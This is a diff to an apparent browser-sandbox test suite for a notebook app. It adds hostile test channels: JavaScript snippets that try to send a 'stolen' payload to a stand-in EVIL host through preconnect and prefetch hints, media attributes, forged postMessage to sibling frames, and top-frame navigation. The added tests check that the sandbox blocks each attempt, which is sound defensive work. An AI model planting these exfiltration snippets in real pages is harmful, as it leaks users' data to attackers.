@@ -165,12 +165,68 @@ const CHANNELS: Channel[] = [
   return "sent " + forged.length + (port ? " twice" : " once (no channel found)");
 })()`,
   },
+  // Loads the issue does not list, each by a road of its own: hints that open a connection before
+  // any request (preconnect, DNS prefetch), preloads, icons, and pictures or media by attributes
+  // other than `src`.
+  {
+    name: "hints",
+    paths: ["/preconnect", "/dns-prefetch", "/modulepreload", "/preload", "/icon"],
+    source: `(() => { for (const [rel, extra] of [["preconnect"], ["dns-prefetch"], ["modulepreload"], ["preload", "image"], ["icon"]]) { const l = document.createElement("link"); l.rel = rel; if (extra) l.as = extra; l.href = EVIL + rel + "?d=" + ${PAYLOAD}; document.head.append(l); } return "added"; })()`,
+  },
+  {
+    name: "media",
+    paths: ["/srcset", "/svg-image", "/input-image", "/audio", "/video-poster", "/embed", "/picture-source"],
+    source: `await (async () => {
+  const at = (path) => EVIL + path + "?d=" + ${PAYLOAD};
+  const img = document.createElement("img"); img.srcset = at("srcset") + " 1x"; document.body.append(img);
+  const picture = document.createElement("picture"); const source = document.createElement("source"); source.srcset = at("picture-source"); picture.append(source, document.createElement("img")); document.body.append(picture);
+  document.body.insertAdjacentHTML("beforeend", '<svg width="4" height="4"><image href="' + at("svg-image") + '" width="4" height="4"/></svg>');
+  const input = document.createElement("input"); input.type = "image"; input.src = at("input-image"); document.body.append(input);
+  const audio = new Audio(at("audio")); audio.preload = "auto"; document.body.append(audio);
+  const video = document.createElement("video"); video.poster = at("video-poster"); document.body.append(video);
+  const embed = document.createElement("embed"); embed.src = at("embed"); document.body.append(embed);
+  await new Promise((r) => setTimeout(r, 1500));
+  return "added";
+})()`,
+  },
+  {
+    // The page's other frames: the spare the page loads beside a quiet notebook (primed with the
+    // survey, the next notebook's frame). Once one is there, messages are forged to it as if from
+    // the page — an `open` with a channel to answer on, a `prime` — and it is navigated away. The
+    // notebook is busy until its cells settle and no spare is made while it is, so this waits in the
+    // background and writes its outcome into #tv-sibling.
+    name: "sibling-frames",
+    source: `(() => {
+  const box = document.createElement("pre"); box.id = "tv-sibling"; document.body.append(box);
+  const started = Date.now();
+  const timer = setInterval(async () => {
+    const others = Array.from({ length: parent.frames.length }, (_, i) => parent.frames[i]).filter((w) => w !== window);
+    if (others.length === 0 && Date.now() - started < 40000) return;
+    clearInterval(timer);
+    const out = [];
+    for (const other of others) {
+      const { port1, port2 } = new MessageChannel();
+      let answered = false;
+      port1.onmessage = () => { answered = true; };
+      try { other.postMessage({ type: "open", channel: port2, doc: { title: "x", cells: [{ id: "1", kind: "js", source: "survey" }] }, drafts: {}, mode: "live", view: "live", inputs: {}, filter: {}, data: { kind: "bundled" }, held: [], locale: "en" }, "*", [port2]); } catch (e) { out.push("post threw " + e.name); }
+      try { other.postMessage({ type: "prime", files: [] }, "*"); other.postMessage({ type: "hello" }, "*"); } catch (e) { void e; }
+      await new Promise((r) => setTimeout(r, 1500));
+      out.push(answered ? "answered" : "silent");
+      try { other.location.href = EVIL + "sibling-frames?d=" + ${PAYLOAD}; out.push("navigated"); } catch (e) { out.push("navigation threw " + e.name); }
+    }
+    box.textContent = "SIBLINGS " + others.length + ": " + out.join(", ");
+  }, 200);
+  return "waiting for a spare frame";
+})()`,
+  },
   { name: "location", navigates: true, source: `(() => { location.href = EVIL + "location?d=" + ${PAYLOAD}; return "navigating"; })()` },
   { name: "top-location", navigates: true, source: `(() => { try { top.location.href = EVIL + "top-location?d=" + ${PAYLOAD}; return "navigating"; } catch (e) { return "threw " + e.name; } })()` },
   { name: "window-open", navigates: true, source: `(() => { try { return window.open(EVIL + "window-open?d=" + ${PAYLOAD}) ? "opened" : "refused"; } catch (e) { return "threw " + e.name; } })()` },
   { name: "form", navigates: true, source: `(() => { const f = document.createElement("form"); f.method = "POST"; f.action = EVIL + "form"; const i = document.createElement("input"); i.name = "d"; i.value = stolen; f.append(i); document.body.append(f); try { f.submit(); return "submitted"; } catch (e) { return "threw " + e.name; } })()` },
   { name: "a-blank", navigates: true, source: `(() => { const a = document.createElement("a"); a.href = EVIL + "a-blank?d=" + ${PAYLOAD}; a.target = "_blank"; document.body.append(a); a.click(); return "clicked"; })()` },
   { name: "a-download", navigates: true, source: `(() => { const a = document.createElement("a"); a.href = EVIL + "a-download?d=" + ${PAYLOAD}; a.download = "x.txt"; document.body.append(a); a.click(); return "clicked"; })()` },
+  { name: "a-top", navigates: true, source: `(() => { const a = document.createElement("a"); a.href = EVIL + "a-top?d=" + ${PAYLOAD}; a.target = "_top"; document.body.append(a); a.click(); return "clicked"; })()` },
+  { name: "open-top", navigates: true, source: `(() => { try { return window.open(EVIL + "open-top?d=" + ${PAYLOAD}, "_parent") ? "opened" : "refused"; } catch (e) { return "threw " + e.name; } })()` },
   { name: "meta-refresh", navigates: true, source: `(() => { const m = document.createElement("meta"); m.httpEquiv = "refresh"; m.content = "0;url=" + EVIL + "meta-refresh?d=" + ${PAYLOAD}; document.head.append(m); return "added"; })()` },
 ];
 
@@ -229,6 +285,10 @@ async function runHostile(channels: Channel[], wait: number): Promise<RunOutcome
     const finished = frame
       ? await frame.waitForFunction(() => /HEARD \d+/.test(document.querySelector("#cell-heard .nb-output")?.textContent ?? ""), undefined, { timeout: wait }).then(() => true, () => false)
       : false;
+    // The sibling-frames attempt waits for the spare the page makes once the notebook is quiet.
+    if (frame && channels.some((c) => c.name === "sibling-frames")) {
+      await frame.waitForFunction(() => /SIBLINGS/.test(document.querySelector("#tv-sibling")?.textContent ?? ""), undefined, { timeout: 45_000 }).catch(() => undefined);
+    }
     await page.waitForTimeout(1500);
     // What the notebook could see: its own document (outputs, the messages it heard).
     const read = (selector: string) => (frame ? frame.evaluate((s) => document.querySelector(s)?.textContent ?? "", selector).catch(() => "") : Promise.resolve(""));
@@ -299,6 +359,9 @@ beforeAll(async () => {
   }
   writeFileSync(`${workDir}/../hostile-notebook.json`, JSON.stringify({
     dist: process.env.TVERRSNITT_DIST ?? "dist", table, popups,
+    // TCP connections that carried no request: Chromium opens one before it refuses some loads
+    // (docs/decisions.md, "Channels a browser sandbox cannot close").
+    connectionsWithoutRequest: evil.connections(),
     allRequests: requests.map((r: ReceivedRequest) => `${r.method} ${r.url.slice(0, 80)}`),
     results: outcomes[0]?.results, heard: outcomes[0]?.heard.slice(0, 4000),
   }, null, 2));
@@ -332,6 +395,14 @@ describe("a hostile shared notebook after consent", () => {
     for (const id of [9001, 9002, 9003, 9004, 9005, 9006, 9007]) expect(heard).toMatch(new RegExp(`"type":"file","id":${id},"error":"[^"]*was not read`));
     // The one legitimate path was answered, with the bundled file's bytes.
     expect(heard).toMatch(/"type":"file","id":9010,"bytes":"knr,kommune,fylke/);
+  });
+
+  it("cannot reach the spare frame beside it: forged page messages go unanswered and its navigation is refused", () => {
+    const text = outcomes[0]?.text ?? "";
+    expect(text).toMatch(/SIBLINGS [1-9]\d*: /);
+    const outcome = text.match(/SIBLINGS [^<]*/)?.[0] ?? "";
+    expect(outcome).not.toMatch(/answered|navigated\b/);
+    expect(outcome).toMatch(/silent, navigation threw \w+/);
   });
 
   it("was told no for every storage and page read", () => {
